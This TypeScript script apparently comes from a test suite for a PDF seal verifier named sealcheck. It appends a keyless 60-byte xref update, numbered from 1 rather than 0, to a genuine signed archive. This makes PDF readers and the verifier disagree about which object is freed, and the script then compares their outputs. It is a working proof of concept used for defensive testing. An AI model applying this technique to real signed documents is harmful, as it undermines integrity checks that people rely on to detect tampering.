// X1: a table whose subsection starts at 1 with the free list's head ("1 1" / "0000000000 65535 f"). poppler
// (XRef::readXRefTable: "the xref table claims to start at 1 instead of 0") and pdf.js (processXRefTable: "the
// first xref table entry, i.e. obj 0, should be free") read it as object 0; sealcheck reads object 1 freed.
// Anyone appends it (no key, 60 bytes) to a genuine archive.
//   npx tsx scripts/attack-s11/xref-starts-at-one.ts <mode> [real]
// modes: honest (the same update with "0 1" instead of "1 1": object 0, as every reader reads it); quirk.
// With `real`, the broker's real archive (test/fixtures/real/broker-example, --at 2025-12-08T09:35:10Z, its trust).
import { readFileSync } from "node:fs";
import { pdfiumAndPdfjs, printReaders } from "./lib.js";
import { save, show, tool, verify, work } from "../attack36/lib.js";
import { lastStartXref } from "../generator/pdf-bytes.js";
import { concat, latin1Bytes, latin1Text } from "../generator/der.js";

const mode = process.argv[2] ?? "quirk";
const real = process.argv[3] === "real";
if (!["honest", "quirk"].includes(mode)) throw new Error(`mode: honest|quirk, not ${mode}`);
const base = new Uint8Array(readFileSync(real ? "test/fixtures/real/broker-example/archive.pdf" : "samples/valid/archive.pdf"));
const prev = lastStartXref(base);
const tail = latin1Text(base.subarray(prev));
const trailer = /trailer\s*<<([\s\S]*?)>>\s*(%[^\n]*\n)?\s*startxref/.exec(tail);
if (!trailer) throw new Error("no trailer");
const entries = ["Root", "Info", "ID", "Size"]
  .map((k) => new RegExp(`/${k}\\s*(\\d+\\s+\\d+\\s+R|\\[[^\\]]*\\]|\\d+)`).exec(trailer[1]!))
  .map((m, i) => `/${["Root", "Info", "ID", "Size"][i]} ${m![1]}`);
const at = base.length + (base[base.length - 1] === 0x0a ? 0 : 1);
const first = mode === "quirk" ? 1 : 0;
const update = `${base[base.length - 1] === 0x0a ? "" : "\n"}xref\n${first} 1\n0000000000 65535 f \ntrailer\n<< ${entries.join(" ")} /Prev ${prev} >>\nstartxref\n${at}\n%%EOF\n`;
const out = concat(base, latin1Bytes(update));
const dir = work(`s11-xref1-${mode}${real ? "-real" : ""}`);
const file = save(dir, "archive.pdf", out);
console.log(`wrote ${file} (${mode}${real ? ", real archive" : ""}); the update:\n${update.trim()}`);
const v = real ? verify(file, ["--at", "2025-12-08T09:35:10Z"], "", "test/fixtures/real/broker-example/trust") : verify(file);
show(mode, v);
for (const c of v.report.checks.filter((c) => c.id === "seal-modifications")) console.log(`   ${c.id} ${c.status}: ${c.message.slice(0, 300)}`);
printReaders(file);
console.log(
  `== pdfinfo: ${tool("pdfinfo", [file])
    .split("\n")
    .filter((l) => /Pages|Error|Syntax/i.test(l))
    .join(" | ")}`,
);
for (const l of pdfiumAndPdfjs(file, 60).filter((x) => /PDFium|pdf.js|p1:|attach|not run/.test(x))) console.log(`== ${l.trim()}`);
